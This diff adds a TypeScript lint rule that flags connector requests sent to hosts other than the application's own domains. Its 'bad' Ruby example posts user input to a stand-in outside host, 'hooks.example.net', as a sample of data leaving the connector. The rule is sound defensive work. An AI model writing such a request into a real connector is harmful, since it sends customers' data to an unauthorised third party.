@@ -1,0 +1,123 @@
+import type { Connector } from "../../connector/connector.ts";
+import type { Value } from "../../connector/value.ts";
+import { defineRule, ruby } from "../../engine/rule.ts";
+
+export const foreignHost = defineRule({
+  id: "security/foreign-host",
+  severity: "warning",
+  confidence: "medium",
+  since: "0.1.0",
+  docs: {
+    summary: "Sends requests to the application's own hosts only.",
+    why: "Another host could receive customers' data, and a listing asks for none but the application's API.",
+    remedy: "Remove the request, or name a further domain of the same vendor in the rule's option `hosts`.",
+    sources: ["https://docs.workato.com/en/developing-connectors/community/certification.html"],
+  },
+  options: {
+    hosts: { kind: "strings", default: [], summary: "Domains of the same vendor, such as `acme-files.com`." },
+  },
+  messages: {
+    foreign: (host: string, own: string) =>
+      `The request goes to \`${host}\`, while the connection is one to \`${own}\`.`,
+  },
+  examples: {
+    bad: [
+      {
+        name: "a request to somebody else",
+        source: ruby`
+          {
+            connection: { base_uri: lambda { |_c| 'https://api.acme.com' } },
+            actions: { add: { execute: lambda { |_c, input| post('https://hooks.example.net/log', input) } } }
+                                                            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ foreign
+          }
+        `,
+      },
+    ],
+    good: [
+      {
+        name: "another host of the application",
+        source: ruby`
+          {
+            connection: { base_uri: lambda { |_c| 'https://api.acme.co.uk' } },
+            actions: { add: { execute: lambda { |_c, input| post('https://files.acme.co.uk/log', input) } } }
+          }
+        `,
+      },
+      {
+        name: "an address that the user gives",
+        source: ruby`
+          {
+            connection: { base_uri: lambda { |c| c['address'] } },
+            actions: { add: { execute: lambda { |_c, input| post('https://files.acme.com/log', input) } } }
+          }
+        `,
+      },
+    ],
+  },
+  create: (context) => ({
+    end() {
+      const own = ownDomains(context.connector);
+      const [first] = own;
+      if (!first) return;
+      const allowed = new Set([...own, ...context.options.hosts.map(registrableDomain)]);
+      for (const request of context.connector.requests) {
+        const host = hostOf(request.url);
+        if (host && !allowed.has(registrableDomain(host))) context.report("foreign", request, [host, first]);
+      }
+    },
+  }),
+});
+
+/** The domains of the base address and of the login; empty where any of them is not known. */
+function ownDomains(connector: Connector): ReadonlySet<string> {
+  const domains = new Set<string>();
+  for (const lambda of connector.lambdas) {
+    if (!["base_uri", "authorization_url", "token_url", "acquire", "refresh"].includes(lambda.key)) continue;
+    if (lambda.key === "base_uri") {
+      const result = lambda.result();
+      for (const value of result.kind === "choice" ? result.options : [result]) {
+        const host = hostOf(value);
+        if (!host) return new Set();
+        domains.add(registrableDomain(host));
+      }
+    }
+  }
+  if (domains.size === 0) return domains;
+  for (const request of connector.requests) {
+    const host = request.lambda?.owner === "authorization" ? hostOf(request.url) : null;
+    if (host) domains.add(registrableDomain(host));
+  }
+  for (const lambda of connector.lambdas) {
+    if (lambda.key !== "authorization_url" && lambda.key !== "token_url") continue;
+    const host = hostOf(lambda.result());
+    if (host) domains.add(registrableDomain(host));
+  }
+  return domains;
+}
+
+/** The host of an address, as far as its registrable part is literal. */
+function hostOf(value: Value): string | null {
+  const text =
+    value.kind === "string"
+      ? value.text
+      : value.kind === "template"
+        ? value.parts.map((part) => part ?? "\u{0}").join("")
+        : "";
+  const host = /^https?:\/\/(?:[^/?#@\s]*@)?(?<host>[^/?#:\s]+)(?=[/?#:]|$)/iu.exec(text)?.groups?.["host"];
+  if (!host) return null;
+  const domain = registrableDomain(host);
+  return domain.includes("\u{0}") || !domain.includes(".") || /^[\d.]+$/u.test(domain)
+    ? null
+    : host.replaceAll("\u{0}", "…");
+}
+
+/** Endings under which the public registers names, where they have two parts. The common ones are enough here. */
+const doubleEnding = /\.(?:co|com|net|org|gov|edu|ac)\.[a-z]{2}$/u;
+
+function registrableDomain(host: string): string {
+  const lower = host.toLowerCase();
+  return lower
+    .split(".")
+    .slice(doubleEnding.test(lower) ? -3 : -2)
+    .join(".");
+}
